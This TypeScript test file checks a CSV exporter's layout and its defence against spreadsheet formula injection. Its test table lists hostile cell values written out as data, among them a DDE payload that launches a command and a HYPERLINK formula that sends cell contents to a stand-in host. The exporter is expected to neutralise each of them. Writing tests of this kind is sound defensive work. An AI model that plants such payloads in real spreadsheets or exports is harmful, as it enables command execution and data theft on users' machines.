import { parse } from 'csv-parse/sync'
import * as fc from 'fast-check'
import { describe, expect, test } from 'vitest'
import { csvOf } from '../../../src/shared/export/csv.ts'
import type { ExportValue } from '../../../src/shared/export/export-table.ts'
import { exportTable } from '../../../src/shared/export/export-table.ts'

const csvOfRow = (...values: ExportValue[]) =>
  csvOf({ fields: values.map((_, index) => `field${index}`), rows: [values] })
/** Reads strictly: what is not RFC 4180 throws. */
const read = (csv: string): string[][] => parse(csv, { bom: true, record_delimiter: '\r\n' })
const cellOf = (text: string) => read(csvOfRow(text))[1]?.[0]

describe('layout', () => {
  test('a byte order mark, a header, lines that end in CR LF', () => {
    const calls = [
      { app: 'shop', durationMs: 12.5, isStep: false },
      { app: '结账', durationMs: null, isStep: true },
    ]
    const table = exportTable(calls, {
      app: (call) => call.app,
      durationMs: (call) => call.durationMs,
      isStep: (call) => call.isStep,
    })
    expect(csvOf(table)).toBe('\ufeff"app","durationMs","isStep"\r\n"shop",12.5,false\r\n"结账",,true\r\n')
  })

  test('without rows the header stands alone', () => {
    expect(csvOf({ fields: ['app', 'model'], rows: [] })).toBe('\ufeff"app","model"\r\n')
  })

  test('null is nothing, an empty text is quoted', () => {
    expect(csvOfRow(null, '')).toContain('\r\n,""\r\n')
  })

  test('numbers stay numbers, negative ones too; what is none is nothing', () => {
    expect(csvOfRow(-1.5, 0, 1e-9, 2 ** 53, NaN, Infinity)).toContain(
      '\r\n-1.5,0,1e-9,9007199254740992,,\r\n',
    )
  })

  test('lists and objects are JSON', () => {
    expect(read(csvOfRow([{ aboveInputTokens: 200_000 }]))[1]).toEqual(['[{"aboveInputTokens":200000}]'])
  })
})

describe('a text that a spreadsheet would run', () => {
  test.each([
    ['=1+1', "'=1+1"],
    ['+1', "'+1"],
    ['-1', "'-1"],
    ['@SUM(A1)', "'@SUM(A1)"],
    ["=cmd|'/C calc'!A0", "'=cmd|'/C calc'!A0"],
    ['=HYPERLINK("http://x.test?"&A1,"ok")', '\'=HYPERLINK("http://x.test?"&A1,"ok")'],
    ['＝1+1', "'＝1+1"],
    ['＋1', "'＋1"],
    ['－1', "'－1"],
    ['＠SUM(A1)', "'＠SUM(A1)"],
    ['  =1', "  '=1"],
    ['\u00a0=1', "\u00a0'=1"],
    ['\u200b=1', "\u200b'=1"],
    ['\ufeff=1', "\ufeff'=1"],
    ['\t=1', "'\t'=1"],
    ['\r=1', "'\r'=1"],
    ['\n=1', "'\n'=1"],
    ['\tplain', "'\tplain"],
    ['"=1', '"\'=1'],
    ['ok\n=1', "ok\n'=1"],
    ['ok\r\n  -1', "ok\r\n  '-1"],
    ['ok\t@SUM(A1)', "ok\t'@SUM(A1)"],
    ['ok;=1', "ok;'=1"],
    ['ok;"";=1', 'ok;"";\'=1'],
    ['one\n=1\n=2', "one\n'=1\n'=2"],
  ])('%j becomes %j', (text, cell) => {
    expect(cellOf(text)).toBe(cell)
  })

  test.each(['gpt-4o', 'a=b', 'a@b.test', "'=1", 'a, -b', '结账-助手', '1+1', 'C:\\temp', '%0A=1', ''])(
    '%j is none and stays as it is',
    (text) => {
      expect(cellOf(text)).toBe(text)
    },
  )

  test('one of a million line ends is not slow to look through', () => {
    const text = `${'\n'.repeat(1_000_000)}=1`
    expect(cellOf(text)).toBe(`'${'\n'.repeat(1_000_000)}'=1`)
  })
})

describe('whatever is written', () => {
  const nasty = fc.string({
    unit: fc.constantFrom(...'=+-@＝＋－＠,;"\'\t\r\n a1|结\u200b\u{1f600}', '\ufeff'),
    maxLength: 30,
  })
  const text = fc.oneof(nasty, fc.string({ unit: 'grapheme' }))
  const value = fc.oneof(text, fc.double(), fc.boolean(), fc.constant(null))
  const rows = fc
    .integer({ min: 1, max: 5 })
    .chain((width) => fc.array(fc.array(value, { minLength: width, maxLength: width }), { maxLength: 8 }))

  test('is read back by another parser: the same cells, with nothing added but apostrophes', () => {
    fc.assert(
      fc.property(rows, (values) => {
        const fields = (values[0] ?? ['only']).map((_, index) => `field${index}`)
        const [header, ...found] = read(csvOf({ fields, rows: values }))
        expect(header).toEqual(fields)
        expect(found.map((cells) => cells.map(plain))).toEqual(
          values.map((cells) => cells.map((cell) => plain(asText(cell)))),
        )
      }),
    )
  })

  test('numbers are read back exactly', () => {
    fc.assert(
      fc.property(fc.double({ noNaN: true, noDefaultInfinity: true }), (number) => {
        expect(Number(read(csvOfRow(number))[1]?.[0])).toBe(number === 0 ? 0 : number)
      }),
    )
  })

  test('no text begins a formula, whichever of , ; tab and line end a reader goes by', () => {
    fc.assert(
      fc.property(fc.array(text, { minLength: 1, maxLength: 4 }), (texts) => {
        const [, ...lines] = csvOfRow(...texts).split('\r\n')
        const cells = [
          ...(read(csvOfRow(...texts))[1] ?? []),
          // A reader that takes no quotes seriously and drops them with the blanks.
          ...lines.join('\r\n').split(/[;\t\r\n]/),
        ]
        for (const cell of cells) expect(cell.replace(/^[\s\p{C}"]+/u, '')).not.toMatch(/^[=+\-@＝＋－＠]/)
        expect(read(csvOfRow(...texts))[1]?.filter((cell) => /^[\t\r]/.test(cell))).toEqual([])
      }),
    )
  })
})

const plain = (text: string) => text.replaceAll("'", '')

function asText(value: string | number | boolean | null): string {
  if (value === null || (typeof value === 'number' && !Number.isFinite(value))) return ''
  return String(value)
}
